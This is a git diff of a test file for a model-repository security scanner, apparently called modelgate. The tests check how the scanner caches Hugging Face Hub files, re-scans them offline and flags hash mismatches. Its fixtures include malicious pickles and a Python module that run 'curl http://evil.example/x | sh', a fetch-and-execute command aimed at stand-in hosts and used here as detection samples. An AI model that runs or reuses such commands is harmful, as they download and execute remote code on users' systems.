@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, renameSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
@@ -6,7 +6,8 @@ import { isModelgateError } from '../../src/core/errors.js';
 import { scanHub, type HubScanOptions } from '../../src/app/index.js';
 import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
 import { buildZip } from '../../src/formats/zip/builder.js';
-import { sha256 } from '../helpers/fixture-hub.js';
+import { gitBlobId, sha256 } from '../helpers/fixture-hub.js';
+import type { ScanResult } from '../../src/core/report-types.js';
 import { HubProcess } from '../helpers/hub-process.js';
 import { torchStateDict } from '../detectors/pickle/pickles.js';
 import { osSystemPickle, plainPickle } from '../helpers/pickles.js';
@@ -44,6 +45,10 @@ const bigZip = buildZip([
 const evil = torchZip(osSystemPickle('curl http://x | sh'));
 const safe = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [64, 64] }] });
 let goodSha = '';
+let smallSha = '';
+const remoteModule = Buffer.from('import os\nos.system("curl http://evil.example/x | sh")\nclass XModel: pass\n');
+const smallPickle = osSystemPickle('curl http://x | sh');
+const tokenizer = Buffer.from('{"version": "1.0", "model": {"type": "BPE"}}');
 
 beforeAll(async () => {
   hub = await HubProcess.start();
@@ -70,7 +75,15 @@ beforeAll(async () => {
   );
   await hub.addSimpleRepo('acme/remote', [
     { path: 'config.json', content: Buffer.from('{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}') },
-    { path: 'modeling_x.py', content: Buffer.from('import os\nos.system("curl http://evil.example/x | sh")\nclass XModel: pass\n') },
+    { path: 'modeling_x.py', content: remoteModule },
+  ]);
+  // Small files the Hub keeps in git (no LFS pointer), a malicious pickle among them.
+  smallSha = await hub.addSimpleRepo('acme/small', [
+    { path: 'config.json', content: Buffer.from('{"model_type": "bert"}') },
+    { path: 'README.md', content: Buffer.from('# small\n') },
+    { path: 'tokenizer/tokenizer.json', content: tokenizer },
+    { path: 'evil.pkl', content: smallPickle, lfs: false },
+    { path: 'model.safetensors', content: safe },
   ]);
   await hub.rename('oldorg/evil', 'acme/evil');
   await hub.addToken('good-token');
@@ -235,7 +248,9 @@ describe('Hub errors', () => {
     const r = await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
     expect((await hub.state()).log).toEqual([]);
     expect(r.source?.commit).toBe(goodSha);
-    expect(r.files.every((f) => f.verdict === 'error')).toBe(true);
+    // The small git files were cached by the online scan; the LFS weights were only range-read.
+    expect(r.files.find((f) => f.path === 'model.safetensors')!.verdict).toBe('error');
+    expect(r.files.filter((f) => f.path !== 'model.safetensors').map((f) => f.verdict)).toEqual(['clean', 'clean']);
     await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home }) }));
     const again = await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
     expect(again.files.find((f) => f.path === 'model.safetensors')!.verdict).toBe('clean');
@@ -285,5 +300,132 @@ describe('resuming across runs', () => {
     expect(r.files.find((f) => f.path === 'pytorch_model.bin')!.sha256).toBe(sha256(bigZip));
     const ranges = (await hub.state()).log.filter((l) => l.server === 'cdn' && l.path.includes(sha256(bigZip))).map((l) => l.range);
     expect(ranges).toEqual([`bytes=${1 << 20}-`]);
+  });
+});
+
+describe('offline re-scans of git-tracked files', () => {
+  const repoDir = (home: string) => join(home, 'modelgate', 'models--acme--small');
+  /** What a report says about its files, without timings. */
+  const summary = (r: ScanResult) =>
+    r.files.map((f) => ({
+      path: f.path,
+      format: f.format,
+      size: f.size,
+      sha256: f.sha256,
+      verdict: f.verdict,
+      findings: f.findings.map((x) => ({ ruleId: x.ruleId, severity: x.severity, message: x.message })),
+    }));
+
+  it('caches each small git file as blobs/<git blob id>, linked from snapshots/<commit>/<path> as huggingface_hub does', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home }) }));
+    const dir = repoDir(home);
+    for (const [path, bytes] of [
+      ['config.json', Buffer.from('{"model_type": "bert"}')],
+      ['README.md', Buffer.from('# small\n')],
+      ['evil.pkl', smallPickle],
+      ['tokenizer/tokenizer.json', tokenizer],
+    ] as const) {
+      const oid = gitBlobId(bytes);
+      expect(readFileSync(join(dir, 'blobs', oid))).toEqual(bytes);
+      const link = join(dir, 'snapshots', smallSha, path);
+      expect(lstatSync(link).isSymbolicLink()).toBe(true);
+      expect(readlinkSync(link)).toBe(`${'../'.repeat(path.split('/').length + 1)}blobs/${oid}`);
+      expect(readFileSync(link)).toEqual(bytes);
+    }
+    expect(readFileSync(join(dir, 'refs', 'main'), 'utf8')).toBe(smallSha);
+    // snapshots/ holds only commit folders (huggingface_hub's scan_cache_dir refuses a file there).
+    expect(readdirSync(join(dir, 'snapshots'))).toEqual([smallSha]);
+    // Range-read LFS files are not cached; no temporary file is left behind.
+    expect(existsSync(join(dir, 'snapshots', smallSha, 'model.safetensors'))).toBe(false);
+    expect(readdirSync(join(dir, 'blobs')).filter((n) => !/^[0-9a-f]{40}$/.test(n))).toEqual([]);
+  });
+
+  it('an online --full scan and an HF_HUB_OFFLINE=1 re-scan give the same report, with no request', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    const online = await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
+    expect(online.files.find((f) => f.path === 'evil.pkl')!.verdict).toBe('malicious');
+    expect(readlinkSync(join(repoDir(home), 'snapshots', smallSha, 'model.safetensors'))).toBe(`../../blobs/${sha256(safe)}`);
+    await hub.clearLog();
+    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    expect((await hub.state()).log).toEqual([]);
+    expect(summary(offline)).toEqual(summary(online));
+    const totals = (r: ScanResult) => ({ ...r.summary, durationMs: 0, findings: r.findings.map((f) => [f.ruleId, f.severity, f.message]) });
+    expect(totals(offline)).toEqual(totals(online));
+    expect(offline.source).toEqual(online.source);
+    expect(offline.files.every((f) => f.verdict !== 'error')).toBe(true);
+  });
+
+  it('a blob already cached is linked from the snapshot of the commit being scanned', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
+    const link = join(repoDir(home), 'snapshots', smallSha, 'model.safetensors');
+    rmSync(link);
+    await hub.clearLog();
+    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
+    expect((await hub.state()).log.some((l) => l.server === 'cdn')).toBe(false);
+    expect(readlinkSync(link)).toBe(`../../blobs/${sha256(safe)}`);
+  });
+
+  it('still reads a listing an earlier version wrote as snapshots/<commit>.json', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
+    const dir = repoDir(home);
+    renameSync(join(dir, 'modelgate-listings', `${smallSha}.json`), join(dir, 'snapshots', `${smallSha}.json`));
+    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    expect(offline.source?.commit).toBe(smallSha);
+    expect(offline.files.every((f) => f.verdict !== 'error')).toBe(true);
+  });
+
+  it('a cached small file changed after caching is reported offline, never clean, and fetched again online', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
+    const evilBlob = join(repoDir(home), 'blobs', gitBlobId(smallPickle));
+    const configBlob = join(repoDir(home), 'blobs', gitBlobId(Buffer.from('{"model_type": "bert"}')));
+    writeFileSync(evilBlob, plainPickle()); // the malicious pickle swapped for an inert one
+    writeFileSync(configBlob, '{"model_type": "gpt2"}');
+    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    for (const path of ['evil.pkl', 'config.json']) {
+      const file = offline.files.find((f) => f.path === path)!;
+      expect(file.verdict).not.toBe('clean');
+      const mismatch = file.findings.find((f) => f.ruleId === 'repo/hash-mismatch')!;
+      expect(mismatch.severity).toBe('high');
+      expect(mismatch.message).toContain('git blob id');
+      expect(mismatch.message).toContain('cached copy');
+    }
+    const online = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home }) }));
+    expect(online.files.find((f) => f.path === 'config.json')!.verdict).toBe('clean');
+    expect(readFileSync(evilBlob)).toEqual(smallPickle);
+  });
+
+  it('offline, a config reads the module it names only when its cached blob still matches its id', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    const online = await scanHub('hf:acme/remote', opts({ env: env({ HF_HOME: home }) }));
+    const remote = (r: ScanResult) => r.files.find((f) => f.path === 'config.json')!.findings.find((f) => f.ruleId === 'hfconfig/remote-code');
+    const blob = join(home, 'modelgate', 'models--acme--remote', 'blobs', gitBlobId(remoteModule));
+    writeFileSync(blob, 'class XModel: pass\n');
+    const offline = await scanHub('hf:acme/remote', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    const config = offline.files.find((f) => f.path === 'config.json')!;
+    expect(config.verdict).not.toBe('clean');
+    expect(remote(offline)?.severity).not.toBe('low');
+    expect(remote(online)?.severity).toBe('critical');
+    // The changed module is not read: the config says its code cannot be read (not the inert stand-in).
+    expect(remote(offline)?.message).toContain('does not match its hash');
+    expect(offline.files.find((f) => f.path === 'modeling_x.py')!.findings.some((f) => f.ruleId === 'repo/hash-mismatch')).toBe(true);
+  });
+
+  it('a small file whose bytes do not match its blob id is a finding and is not cached', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
+    const oid = gitBlobId(tokenizer);
+    await hub.setFaults({ corruptGit: new Set([oid]) });
+    const r = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home }) }));
+    const file = r.files.find((f) => f.path === 'tokenizer/tokenizer.json')!;
+    expect(file.findings.find((f) => f.ruleId === 'repo/hash-mismatch')?.message).toContain(`git blob id`);
+    expect(file.verdict).toBe('malicious');
+    expect(existsSync(join(repoDir(home), 'blobs', oid))).toBe(false);
+    expect(existsSync(join(repoDir(home), 'snapshots', smallSha, 'tokenizer', 'tokenizer.json'))).toBe(false);
+    await hub.setFaults({});
+    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
+    expect(offline.files.find((f) => f.path === 'tokenizer/tokenizer.json')!.verdict).toBe('error');
   });
 });
